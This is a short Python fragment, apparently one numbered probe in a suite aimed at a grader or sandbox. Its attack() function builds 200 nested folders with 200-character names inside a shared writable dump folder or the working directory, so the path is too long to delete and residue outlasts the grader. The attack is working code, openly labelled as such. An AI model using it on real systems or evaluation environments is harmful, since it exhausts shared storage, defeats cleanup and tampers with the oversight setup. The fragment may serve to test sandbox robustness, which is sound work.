"""114 disk: folders nested so deeply that their path is too long to remove.

Evidence: left - something of it is there when the grader has ended.
"""


def attack():
    # Where everybody may write, if that can be reached, else in one's own folder: both must be cleared.
    for place in (TARGETS["dump"], "."):
        try:
            os.mkdir(os.path.join(place, TARGETS["process"]))
            os.chdir(os.path.join(place, TARGETS["process"]))
            break
        except OSError:
            continue
    for _ in range(200):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    return "200 folders"
